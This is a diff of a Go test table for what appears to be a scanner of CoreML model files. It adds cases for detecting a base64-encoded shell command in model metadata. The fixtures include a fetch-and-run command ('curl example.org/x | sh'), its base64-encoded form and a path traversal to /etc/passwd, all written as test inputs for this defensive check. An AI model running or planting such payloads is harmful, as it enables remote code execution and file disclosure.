@@ -50,6 +50,8 @@ func TestCoreML(t *testing.T) {
 		{"a program", "m.mlmodel", coremlModel(coremlProgram, program("@model_path/weights/weight.bin"), nil), inspect.Clean, ""},
 		{"a program with weights elsewhere", "m.mlmodel", coremlModel(coremlProgram, program("@model_path/../../../etc/passwd"), nil), inspect.Dangerous, "etc/passwd"},
 		{"a command in metadata", "m.mlmodel", coremlModel(coremlNetwork, layer(100, nil), map[string]string{"post": "curl example.org/x | sh"}), inspect.Dangerous, "command"},
+		{"a command in base64 in metadata", "m.mlmodel", coremlModel(coremlNetwork, layer(100, nil), map[string]string{"post": "Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcveCB8IHNo"}), inspect.Dangerous, "in base64"},
+		{"words in base64 in metadata", "m.mlmodel", coremlModel(coremlNetwork, layer(100, nil), map[string]string{"post": "YSBuZXR3b3JrIG9mIHR3ZW50eSBsYXllcnM="}), inspect.Clean, ""},
 		{"cut", "m.mlmodel", network[:len(network)-3], inspect.NotRead, "claims"},
 		{"of no kind", "m.mlmodel", coremlModel(coremlNetwork, nil, nil)[:2+4], inspect.NotRead, ""},
 		{"of two kinds", "m.mlmodel", protobuf.AppendBytes(bytes.Clone(network), coremlProgram, ""), inspect.NotRead, "2 kinds"},
